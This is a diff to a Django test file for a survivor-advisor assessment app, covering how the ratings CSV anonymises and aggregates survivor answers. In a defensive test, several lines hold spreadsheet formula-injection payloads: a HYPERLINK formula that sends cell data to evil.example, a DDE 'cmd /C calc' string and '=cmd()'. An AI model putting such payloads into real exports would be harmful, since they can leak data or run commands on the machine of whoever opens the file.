@@ -29,6 +29,18 @@ def first_domain(assessment_round):
     return assessment_round.framework.domains.order_by("position").first()
 
 
+def more_advisors(world, count: int) -> list:
+    """``count`` more survivor advisors of organisation A, beside world.expert."""
+    from seat.tests.personas import make_expert
+
+    people = []
+    for n in range(count):
+        user = make_expert(f"advisor-{n}", f"Advisor {n}").user
+        membership_grant(actor=None, user=user, organisation=world.org_a, role=Role.ADVISOR)
+        people.append(user)
+    return people
+
+
 @pytest.mark.django_db
 def test_staff_and_advisor_answer_separately_and_results_show_both(client, setup):
     world, advisor, assessment_round, indicators = setup
@@ -36,13 +48,22 @@ def test_staff_and_advisor_answer_separately_and_results_show_both(client, setup
     services.ratings_save(
         actor=world.staff_a, assessment_round=assessment_round, answers={key: (4, "Minutes")}
     )
-    services.ratings_save(actor=advisor, assessment_round=assessment_round, answers={key: (1, "")})
+    for person in [advisor, *more_advisors(world, 2)]:
+        services.ratings_save(
+            actor=person, assessment_round=assessment_round, answers={key: (1, "")}
+        )
     perspectives = dict(
         Rating.objects.filter(round=assessment_round).values_list(
             "respondent__username", "perspective"
         )
     )
-    assert perspectives == {"staff-a": "staff", "expert": "survivor"}
+    assert perspectives == {
+        "staff-a": "staff",
+        "expert": "survivor",
+        "advisor-0": "survivor",
+        "advisor-1": "survivor",
+    }
+    services.round_close(actor=world.staff_a, assessment_round=assessment_round)
     client.force_login(world.staff_a)
     body = client.get(f"/assessment/rounds/{assessment_round.pk}/results/").content.decode()
     assert "Where staff and survivor advisors see things differently" in body
@@ -198,25 +219,40 @@ def test_completed_rounds_refuse_new_answers(client, setup):
 
 
 @pytest.mark.django_db
-def test_csv_has_one_row_per_rating_and_no_names(client, setup):
+def test_csv_has_staff_rows_and_survivors_only_together(client, setup):
     world, advisor, assessment_round, indicators = setup
+    first, second = indicators[0].key, indicators[1].key
     services.ratings_save(
-        actor=world.staff_a,
-        assessment_round=assessment_round,
-        answers={indicators[0].key: (3, "=cmd()")},
+        actor=world.staff_a, assessment_round=assessment_round, answers={first: (3, "Minutes")}
     )
-    services.ratings_save(
-        actor=advisor, assessment_round=assessment_round, answers={indicators[0].key: (2, "")}
-    )
+    notes = ["We were asked late.", "Asked one week before.", "Nobody asked me."]
+    for person, level, note in zip(
+        [advisor, *more_advisors(world, 2)], [1, 2, 2], notes, strict=True
+    ):
+        services.ratings_save(
+            actor=person,
+            assessment_round=assessment_round,
+            # Only the first advisor rates the second indicator: one person's answer, kept back.
+            answers={first: (level, note), **({second: (4, "")} if person == advisor else {})},
+        )
+    services.round_close(actor=world.staff_a, assessment_round=assessment_round)
     client.force_login(world.staff_a)
     response = client.get(f"/assessment/rounds/{assessment_round.pk}/ratings.csv")
-    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
-    assert [(r["perspective"], r["respondent"], r["level"]) for r in rows] == [
-        ("staff", "staff-1", "3"),
-        ("survivor", "survivor-1", "2"),
+    text = response.content.decode()
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [
+        (r["perspective"], r["respondent"], r["indicator"], r["level"], r["respondents"])
+        for r in rows
+    ] == [
+        ("staff", "staff-1", first, "3", ""),
+        ("survivor", "together", first, "1.7", "3"),
+        ("survivor", "together", first, "", ""),
+        ("survivor", "together", first, "", ""),
+        ("survivor", "together", first, "", ""),
     ]
-    assert rows[0]["evidence"] == "'=cmd()"
-    assert "staff-a" not in response.content.decode() and "expert" not in response.content.decode()
+    # Notes without respondent or level, in alphabetical order, not in the order given.
+    assert [r["evidence"] for r in rows[2:]] == sorted(notes)
+    assert "survivor-" not in text and "staff-a" not in text and "expert" not in text
 
 
 @pytest.mark.django_db
@@ -340,4 +376,4 @@ def test_no_cell_of_the_ratings_csv_can_run_as_a_formula(client, setup, prefix):
     rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
     assert rows[1][0] == f'\'{prefix}HYPERLINK("https://evil.example/?"&A1)'
     assert rows[1][-1] == f"'{prefix}cmd|' /C calc'!A0"
-    assert [cell for row in rows for cell in row if cell[:1] in "=+-@\t\r"] == []
+    assert [cell for row in rows for cell in row if cell and cell[0] in "=+-@\t\r"] == []
